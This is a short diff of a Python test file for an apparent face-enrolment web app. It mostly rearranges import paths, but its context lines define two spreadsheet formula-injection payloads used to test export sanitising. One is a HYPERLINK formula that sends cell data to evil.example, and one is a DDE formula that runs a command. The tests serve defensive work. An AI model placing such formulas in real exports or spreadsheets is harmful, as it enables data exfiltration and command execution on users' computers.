@@ -9,9 +9,9 @@ import pytest
 
 from facesite.extensions import db
 from facesite.models import Enrolment, SecurityEvent, VendorCall
-from facesite.spreadsheets import csv_safe
-from tests.batch_files import read_csv
-from tests.conftest import EnrolPage, face, make_app, sign_in
+from facesite.web.spreadsheets import csv_safe
+from tests.support import EnrolPage, face, make_app, sign_in
+from tests.support.batch_files import read_csv
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 COMMAND = "=1+cmd|' /C calc'!A0"
@@ -112,7 +112,7 @@ def test_the_register_export_streams_row_by_row(sandbox, request, database):
 
 
 def test_batch_results_are_neutralised_and_recorded(fake_app):
-    from tests.batch_files import make_manifest, make_zip
+    from tests.support.batch_files import make_manifest, make_zip
     from tests.test_batch import BatchPage
 
     batch = BatchPage(sign_in(fake_app.test_client(), "operator"))
